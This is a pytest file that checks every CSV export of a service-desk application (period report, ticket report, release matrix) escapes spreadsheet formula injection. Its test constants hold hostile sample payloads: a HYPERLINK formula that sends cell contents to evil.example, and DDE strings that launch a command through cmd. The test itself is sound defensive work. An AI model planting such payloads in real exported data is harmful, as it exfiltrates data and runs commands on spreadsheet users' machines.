"""Issue 16, problem 6: no CSV export hands a spreadsheet a formula. A customer, a
person, a subject and a breach all begin with formula characters; every cell of every
CSV export (period report, ticket report, version matrix from the CLI and from the
window) is text or a number, never a live formula. Both engines."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

from app.bootstrap import Services
from app.reports.render.csv_safe import FORMULA_START
from app.reports.render.tabular import period_csv, ticket_csv
from tests.reports_imports.exports import History, Update, write
from tests.support.cli import Cli
from tests.support.people import PASSWORD, People

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")'
EVIL_SUBJECT = "+cmd|' /C calc'!A0"
EVIL_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SOURCE = "-2+3+cmd|' /C calc'!A0"


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: formula-leading cells that are not numbers."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if not cell.startswith(FORMULA_START):
                continue
            try:
                float(cell)
            except ValueError:
                found.append(cell)
    return found


def test_no_csv_export_carries_a_formula(
    services: Services, people: People, db_url: str, tmp_path: Path
) -> None:
    m = people.manager
    services.customers.add_customer(m, code="EVIL", name=EVIL_NAME)
    services.users.add_user(
        people.admin, username="mal", password=PASSWORD, role="engineer", full_name=EVIL_PERSON
    )
    mal = services.users.login("mal", PASSWORD)
    ticket = services.tickets.open_ticket(
        people.care, customer="EVIL", subject=EVIL_SUBJECT, service_type="first_level_support"
    )
    services.tickets.comment(mal, ticket.number, "worked on it", minutes=30)
    # An imported ticket whose source says it missed the SLA: a breach row.
    opened = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)  # the day before the clock's now
    history = History(EVIL_SOURCE, 2, (Update(opened, "new", EVIL_PERSON),), False)
    data, mapping = write(tmp_path, [history])
    services.importing.generic(m, data, mapping=mapping, customer="EVIL")
    services.customers.add_product(m, code="ERP", name="ERP suite")
    services.releases.add_release(m, product="ERP", version="1.0.0", state="available")

    period = services.reports.period_report(
        m, customer=None, start=date(2026, 3, 1), end=date(2026, 3, 31)
    )
    assert [b.number for b in period.breaches] == ["SD-000002"]
    of_evil = services.reports.period_report(
        m, customer="EVIL", start=date(2026, 3, 1), end=date(2026, 3, 31)
    )
    exports = {
        "period": period_csv(period),
        "customer period": period_csv(of_evil),
        "ticket": ticket_csv(services.reports.ticket_report(m, ticket.number)),
    }
    cli = Cli(db_url)
    matrix = tmp_path / "matrix.csv"
    cli.ok("release", "matrix", "--csv", str(matrix), user="mia", password=PASSWORD)
    exports["matrix file"] = matrix.read_text(encoding="utf-8")
    exports["matrix stdout"] = cli.ok(
        "release", "matrix", "--csv", "-", user="mia", password=PASSWORD
    ).out

    for name, text in exports.items():
        assert live_formulas(text) == [], name
    # The values are all there, as text a spreadsheet shows as written.
    assert f"'{EVIL_PERSON}" in exports["period"]  # time logged per person
    assert f"gen ticket {EVIL_SOURCE}" in exports["period"]  # the breach's subject
    assert "'=HYPERLINK(" in exports["customer period"]  # the customer's name
    assert f"'{EVIL_SUBJECT}" in exports["ticket"]
    assert "'=HYPERLINK(" in exports["matrix file"] and "'=HYPERLINK(" in exports["matrix stdout"]
